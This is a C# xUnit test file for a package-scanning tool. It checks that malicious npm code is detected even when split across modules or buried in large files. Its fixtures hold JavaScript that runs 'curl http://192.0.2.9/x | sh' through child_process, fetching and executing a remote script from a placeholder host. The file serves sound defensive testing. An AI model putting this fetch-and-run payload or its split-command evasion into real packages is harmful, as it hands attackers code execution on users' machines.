using System.Diagnostics;
using Wellguard.Artifacts;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>Packages with more programs than are evaluated whole: what runs is, and of the rest the pieces that could do harm.</summary>
public sealed class ProgramPiecesTests
{
    private const string Manifest = """{"name":"a","version":"1.0.0","main":"index.js"}""";
    private const string Harm = "require('child_process').exec('curl http://192.0.2.9/x | sh');\n";

    private static readonly string Filler = string.Concat(Enumerable.Repeat("// fetch('http://example.test/') " + new string('a', 90) + "\n", 8_000));

    [Theory]
    [InlineData("", false)]
    [InlineData("require('./zz/late');", true)]
    [InlineData("require('./zz' + '/late');", true)]
    public async Task What_runs_is_evaluated_whole(string main, bool isWhole)
    {
        // The command stands in another piece than the code that runs it.
        var late = "const command = 'curl http://192.0.2.9/x | sh';\n" + string.Concat(Enumerable.Repeat("// " + new string('b', 90) + "\n", 2_000)) + "require('child_process').exec(command);\n";
        var report = await ScanAsync("index.js", main, "zz/late.js", late, "zz/other.js", Harm);
        Assert.True(isWhole == report.Signals.Any(static signal => signal is { Where.Path: "package/zz/late.js", Rule: "content/runs-downloaded-code" }), LinkedModulesTests.Told(report));
        Assert.Contains(report.Completeness.Notes ?? [], static note => note.Why.Contains("only its pieces were evaluated", StringComparison.Ordinal));
        Assert.Contains(report.Signals, static signal => signal.Where.Path == "package/zz/other.js" && signal.Rule == "content/runs-downloaded-code");
    }

    [Fact]
    public async Task Too_many_pieces_are_told()
    {
        var harm = string.Concat(Enumerable.Repeat("// child_process " + new string('a', 100) + "\n", 8_000));
        var watch = Stopwatch.StartNew();
        var report = await ScanAsync([.. Enumerable.Range(0, 12).SelectMany(at => new[] { $"zz/{at}.js", harm })]);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(60), $"{watch.Elapsed}");
        Assert.Contains(report.Signals, static signal => signal.Rule == "content/partly-read-code");
    }

    private static Task<Reports.Report> ScanAsync(params string[] files) =>
        MadePackage.ScanAsync(MadePackage.Npm(Manifest, [.. Enumerable.Range(0, 20).SelectMany(static at => new[] { $"lib/{at}.js", Filler }), .. files]), new ScanOptions(Policy.Default, new DateOnly(2026, 1, 1)));
}
